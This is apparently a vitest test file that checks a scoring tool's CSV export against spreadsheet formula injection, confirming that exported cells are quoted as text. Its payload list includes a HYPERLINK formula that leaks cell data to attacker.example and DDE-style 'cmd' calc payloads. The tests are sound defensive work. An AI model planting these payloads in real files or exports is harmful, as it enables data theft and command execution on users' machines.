import { describe, expect, it } from 'vitest';
import { runScoring } from '../../src/core/scoring/pipeline.ts';
import { csvCell } from '../../src/formats/csv.ts';
import { predictionReaders } from '../../src/formats/predictions/read.ts';
import { reportFiles } from '../../src/formats/scoreDownloads.ts';
import { QUESTIONS as Q, scoringHouse } from '../support/scoreSupport.ts';

/** RFC 4180, as a spreadsheet reads it: cells of rows, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet evaluates on opening: a cell starting with = + - @ (after blanks), a tab or a CR — unless it is just a number. */
const evaluated = (cell: string) => /^(?:\s*[=+\-@]|[\t\r])/.test(cell) && !/^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/i.test(cell);

const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
];

describe('the score CSV export with formulas in every field that comes from outside', () => {
  it('no cell opens as a formula; each payload is kept as text behind a quote', async () => {
    // Model names, reasons, raw answers, path tokens and the file's own name carry the payloads.
    const file = {
      path: `${PAYLOADS[0]}.jsonl`,
      text:
        PAYLOADS.map((p, i) =>
          JSON.stringify({
            model: p,
            scene: 'HOUSE01',
            question: Q.hallToBedroom,
            agent: ['WHEELCHAIR', 'HUMANOID', 'HUMAN'][i % 3],
            answer: i % 2 ? p : 'no',
            path: [p, 'hall', 'living'],
            reason: p,
          }),
        ).join('\n') + '\n',
    };
    const outcome = await runScoring(
      {
        mode: 'paper',
        project: scoringHouse(),
        input: { root: 'results', files: [file] },
        settings: {
          judge: { kind: 'rule' },
          weights: { f1: 0.25, pv: 0.25, rta: 0.25, rv: 0.25 },
          averaging: 'micro',
          bootstrap: { resamples: 0, seed: 1, level: 0.95 },
        },
      },
      predictionReaders,
    );
    const csv = reportFiles(outcome).csv;
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(1 + PAYLOADS.length);
    const header = rows[0]!;
    for (const row of rows) expect(row).toHaveLength(header.length);
    const bad = rows.flatMap((row, r) => row.filter(evaluated).map((cell) => `row ${r}: ${JSON.stringify(cell)}`));
    expect(bad).toEqual([]);
    // Nothing is lost: each payload is there, a quote in front (model names are read trimmed).
    const col = (name: string) => rows.slice(1).map((row) => row[header.indexOf(name)]);
    expect(new Set(col('model'))).toEqual(new Set(PAYLOADS.map((p) => `'${p.trim()}`)));
    expect(col('reason').sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    expect(col('file')).toEqual(Array(PAYLOADS.length).fill(`'${file.path}`));
    expect(col('path').every((p) => p!.startsWith("'"))).toBe(true);
  });

  it('numbers we computed stay numbers, negative ones too; text that looks like a negative number is text', () => {
    expect([csvCell(-0.5), csvCell(0.25), csvCell(true), csvCell(null)]).toEqual(['-0.5', '0.25', 'true', '']);
    expect([csvCell('-0.5'), csvCell('a, b'), csvCell('say "hi"'), csvCell('=1')]).toEqual(['"\'-0.5"', '"a, b"', '"say ""hi"""', '"\'=1"']);
  });
});
